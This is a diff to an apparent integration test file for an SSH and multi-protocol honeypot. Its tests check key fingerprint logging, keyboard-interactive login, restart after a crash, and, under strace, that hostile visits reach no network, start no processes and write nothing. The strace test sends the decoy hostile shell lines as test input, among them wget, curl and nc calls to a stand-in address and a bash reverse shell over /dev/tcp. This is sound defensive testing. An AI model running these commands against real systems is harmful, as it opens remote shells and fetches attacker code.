@@ -7,6 +7,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
 import { getJson, type Json, send } from '../contract/client.ts';
 import { freePorts, type Program, removeFolder, startProgram, waitFor } from '../program.ts';
+import { forbiddenCalls, playHostile } from './hostile.ts';
 
 vi.setConfig({ testTimeout: 120_000 });
 
@@ -22,6 +23,8 @@ const askpass = join(folder, 'askpass');
 const password = 'S3cret-of-a-decoy';
 let program: Program;
 let port = 0;
+/** Of all decoys, by name. */
+let ports: Record<string, number> = {};
 
 interface Ran {
   status: number;
@@ -62,15 +65,22 @@ const eventsOf = async (query: string): Promise<Json[]> => {
 const waitForEvent = (query: string, test: (event: Json) => boolean = () => true): Promise<Json> =>
   waitFor(`an event of ${query}`, async () => (await eventsOf(query)).find(test));
 
+/** One account gets in; the rest by `more`. */
+async function setOptions(name: string, more: Json): Promise<void> {
+  const options = { accept: 'list', accounts: [`root:${password}`], failureDelayMs: 100, ...more };
+  expect((await send(program, 'PUT', `/api/decoys/${name}`, { options })).status).toBe(200);
+}
+
 beforeAll(async () => {
   writeFileSync(askpass, '#!/bin/sh\nprintf "%s\\n" "$DECOY_PASSWORD"\n');
   chmodSync(askpass, 0o755);
-  [port] = (await freePorts(1)) as [number];
-  program = await startProgram({ env: { PHOSOR_DECOY_HOST: '127.0.0.1', PHOSOR_DECOY_SSH_PORT: String(port) } });
-  const answer = await send(program, 'PUT', '/api/decoys/ssh', {
-    options: { accept: 'list', accounts: [`root:${password}`], failureDelayMs: 100 },
-  });
-  expect(answer.status).toBe(200);
+  const names = ['ssh', 'http', 'ftp', 'telnet', 'smtp', 'mysql', 'redis'];
+  const free = await freePorts(names.length);
+  ports = Object.fromEntries(names.map((name, index) => [name, free[index] ?? 0]));
+  port = ports.ssh ?? 0;
+  const env = Object.entries(ports).map(([name, own]) => [`PHOSOR_DECOY_${name.toUpperCase()}_PORT`, String(own)]);
+  program = await startProgram({ env: { PHOSOR_DECOY_HOST: '127.0.0.1', ...Object.fromEntries(env) } });
+  for (const name of ['ssh', 'ftp', 'telnet']) await setOptions(name, {});
 }, 120_000);
 afterAll(async () => {
   await program?.stop();
@@ -242,29 +252,160 @@ test.skipIf(missing('nmap'))('nmap takes it for OpenSSH of Debian', async () => 
   expect(stdout).toMatch(/open +ssh +OpenSSH 9\.2p1 Debian \S+ \(protocol 2\.0\)/);
 });
 
-test.skipIf(missing('strace', 'ssh'))('a hostile visit makes the process connect to nothing', async (context) => {
-  const { process: at } = await getJson(program, '/api/decoys');
-  expect(at.isolation).toMatchObject({ permission: true, guarded: true });
-  const trace = join(folder, 'trace');
-  const strace = spawn('strace', ['-f', '-e', 'trace=connect,sendto,execve', '-o', trace, '-p', String(at.pid)], {
-    stdio: ['ignore', 'ignore', 'pipe'],
-  });
-  let said = '';
-  strace.stderr.setEncoding('utf8').on('data', (text: string) => {
-    said += text;
-  });
-  const attached = await waitFor('strace', async () => said.includes('attached') || strace.exitCode !== null);
-  if (!attached || strace.exitCode !== null) {
-    context.skip(`strace may not look at the process here: ${said}`);
-    return;
+test.skipIf(missing('ssh', 'ssh-keygen'))('a key that is shown is told by its fingerprint, and refused', async () => {
+  for (const [type, ...bits] of [['ed25519'], ['rsa', '-b', '2048']] as const) {
+    const file = `key-${type}`;
+    expect((await run('ssh-keygen', ['-q', '-t', type, ...bits, '-N', '', '-f', file])).status).toBe(0);
+    const fingerprint = (await run('ssh-keygen', ['-lf', `${file}.pub`])).stdout.split(' ')[1];
+    const only = ['-F', 'none', '-i', file, '-o', 'IdentitiesOnly=yes', '-o', 'PreferredAuthentications=publickey'];
+    const refused = await run('ssh', [...quiet, ...only, '-p', String(port), `with-${type}@127.0.0.1`, 'id']);
+    expect(refused).toMatchObject({ status: 255, stdout: '' });
+    expect(refused.stderr).toContain('Permission denied (publickey,password).');
+    const event = await waitForEvent(`event_type=decoy.login&user=with-${type}`);
+    expect(event).toMatchObject({ outcome: 'failure', fields: { method: 'publickey', key_fingerprint: fingerprint } });
+    expect(event.fields.key_type).toBe(`ssh-${type}`);
+    // The key itself is kept: it may be known from elsewhere.
+    expect(readFileSync(join(folder, `${file}.pub`), 'utf8')).toContain(event.fields.key);
   }
-  await ssh(
-    'wget http://127.0.0.1:80/x; curl http://198.51.100.7/; nc 198.51.100.7 4444; ping -c1 198.51.100.7; tftp 198.51.100.7',
-  );
-  await ssh('echo x > /dev/tcp/198.51.100.7/80; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');
-  await ssh('-W', '127.0.0.1:22');
-  strace.kill('SIGINT');
-  await new Promise((resolve) => strace.on('exit', resolve));
-  const calls = readFileSync(trace, 'utf8');
-  expect(calls).not.toMatch(/AF_INET|AF_INET6|execve\(/);
 });
+
+test.skipIf(missing('ssh'))('keyboard-interactive asks like PAM, and what is answered is told', async () => {
+  await setOptions('ssh', { methods: ['publickey', 'keyboard-interactive'] });
+  const ask = (user: string, tried: string): Promise<Ran> => {
+    const only = [
+      '-F',
+      'none',
+      '-o',
+      'PreferredAuthentications=keyboard-interactive',
+      '-o',
+      'NumberOfPasswordPrompts=1',
+    ];
+    return run('ssh', [...quiet, ...only, '-p', String(port), `${user}@127.0.0.1`, 'id -un'], '', tried);
+  };
+  const refused = await ask('kbd', 'not-this-one');
+  expect(refused.status).toBe(255);
+  expect(refused.stderr).toContain('Permission denied (publickey,keyboard-interactive).');
+  expect(await waitForEvent('event_type=decoy.login&user=kbd')).toMatchObject({
+    outcome: 'failure',
+    fields: { method: 'keyboard-interactive', password_length: 12 },
+  });
+  expect(await ask('root', password)).toMatchObject({ status: 0, stdout: 'root\n' });
+  await waitForEvent(
+    'event_type=decoy.login&user=root',
+    ({ outcome, fields }) => outcome === 'success' && fields.method === 'keyboard-interactive',
+  );
+  await setOptions('ssh', {});
+});
+
+test.skipIf(missing('strace', 'ssh'))(
+  'hostile visits to all decoys reach nothing, start nothing and write nothing',
+  async (context) => {
+    const { process: at } = await getJson(program, '/api/decoys');
+    expect(at.isolation).toMatchObject({ permission: true, guarded: true });
+    const main = Number(readFileSync(join(program.dataDir, 'phosor.lock'), 'utf8'));
+    const watched = [await watch(at.pid, 'decoys'), await watch(main, 'main')];
+    if (watched.some((each) => each === null)) {
+      context.skip('strace may not look at processes here.');
+      return;
+    }
+    const [said] = await Promise.all([
+      playHostile(ports, password),
+      (async () => {
+        await ssh(
+          'wget http://127.0.0.1:80/x; curl http://198.51.100.7/; nc 198.51.100.7 4444; ping -c1 198.51.100.7; tftp 198.51.100.7',
+        );
+        await ssh('echo x > /dev/tcp/198.51.100.7/80; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');
+        await ssh('-W', '127.0.0.1:22');
+      })(),
+    ]);
+    const forwards = await waitFor('the events of all', async () => {
+      const all = await eventsOf('event_type=decoy.forward');
+      const kinds = new Set(all.map(({ source, fields }) => `${source} ${fields.kind}`));
+      const awaited = [
+        'decoy_ftp port',
+        'decoy_ftp eprt',
+        'decoy_smtp relay',
+        'decoy_redis replication',
+        'decoy_telnet nc',
+      ];
+      return awaited.every((kind) => kinds.has(kind)) ? kinds : null;
+    });
+    expect([...forwards]).toContain('decoy_ssh direct-tcpip');
+    for (const decoy of Object.keys(said)) expect(said[decoy]?.join('').length, decoy).toBeGreaterThan(0);
+    const downloads = new Set((await eventsOf('event_type=decoy.download')).map(({ source }) => source));
+    expect([...downloads].sort()).toEqual(['decoy_http', 'decoy_redis', 'decoy_ssh', 'decoy_telnet']);
+    const [decoys = '', whole = ''] = await Promise.all(watched.map((each) => each?.()));
+    expect(forbiddenCalls(decoys)).toEqual([]);
+    expect(forbiddenCalls(whole, { writes: [program.dataDir], listening: true })).toEqual([]);
+    // What would have been found is found in the same trace where less is allowed.
+    const written = forbiddenCalls(whole, { writes: ['/nowhere'], listening: true });
+    expect(written.join('\n')).toContain(join(program.dataDir, 'decoys'));
+    expect(forbiddenCalls(whole, { writes: [program.dataDir] }).join('\n')).toMatch(/bind\(.*AF_INET/);
+  },
+);
+
+/** Begins to look at a process; the function ends it and gives what was called. Null: not allowed here. */
+async function watch(pid: number, name: string): Promise<(() => Promise<string>) | null> {
+  const trace = join(folder, `trace-${name}`);
+  const calls = 'connect,sendto,bind,socket,execve,execveat,%file,ftruncate,fchmod';
+  const strace = spawn(
+    'strace',
+    ['-f', '-qq', '-e', `trace=${calls}`, '-e', 'signal=none', '-o', trace, '-p', String(pid)],
+    {
+      stdio: 'ignore',
+    },
+  );
+  const isAttached = (): boolean => /^TracerPid:\s+[1-9]/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'));
+  await waitFor('strace', async () => isAttached() || strace.exitCode !== null);
+  if (strace.exitCode !== null) return null;
+  return async () => {
+    const ended = new Promise((resolve) => strace.on('exit', resolve));
+    strace.kill('SIGINT');
+    await ended;
+    return readFileSync(trace, 'utf8');
+  };
+}
+
+test.skipIf(missing('ssh'))(
+  "when the decoys' process dies, it is told, comes back, and is the same machine",
+  async () => {
+    const known = ['-F', 'none', '-o', `UserKnownHostsFile=${join(folder, 'known')}`, '-o', 'LogLevel=ERROR'];
+    const strict = (checking: string, command: string): Promise<Ran> =>
+      run('ssh', [
+        ...known,
+        ...['-o', `StrictHostKeyChecking=${checking}`, '-o', 'PreferredAuthentications=password', '-p', String(port)],
+        'root@127.0.0.1',
+        command,
+      ]);
+    const look = 'cat /etc/hostname /etc/machine-id; uptime -s; ip -o link; ls -l /home';
+    const before = await strict('accept-new', look);
+    expect(before.status).toBe(0);
+    const { process: old } = await getJson(program, '/api/decoys');
+    const cut = ssh('echo still-here; sleep 60');
+    const visit = await waitForEvent('event_type=decoy.command', ({ fields }) =>
+      fields.command.includes('still-here'),
+    ).catch(async () => (await getJson(program, '/api/decoys/sessions')).sessions[0]);
+    expect(visit).toBeDefined();
+    process.kill(old.pid, 'SIGKILL');
+    expect((await cut).status).toBe(255);
+
+    const error = await waitForEvent('event_type=decoy.error');
+    expect(error).toMatchObject({ source: 'decoys', fields: { restarts: old.restarts + 1 } });
+    expect(error.message).toContain('SIGKILL');
+    await waitForEvent('event_type=decoy.session', ({ fields }) => fields.reason === "the decoys' process ended");
+    const { process: young } = await waitFor(
+      'the next process',
+      async () => {
+        const { process: now, decoys } = await getJson(program, '/api/decoys');
+        return now.running && decoys.every(({ state }: Json) => state === 'on') ? { process: now } : null;
+      },
+      60_000,
+    );
+    expect(young.pid).not.toBe(old.pid);
+    expect(young).toMatchObject({ restarts: old.restarts + 1, isolation: old.isolation });
+
+    // The host key is the one that the client knows, and so is everything behind it.
+    expect(await strict('yes', look)).toEqual(before);
+    await waitForEvent('event_type=decoy.command', ({ time, fields }) => fields.command === look && time > error.time);
+  },
+);
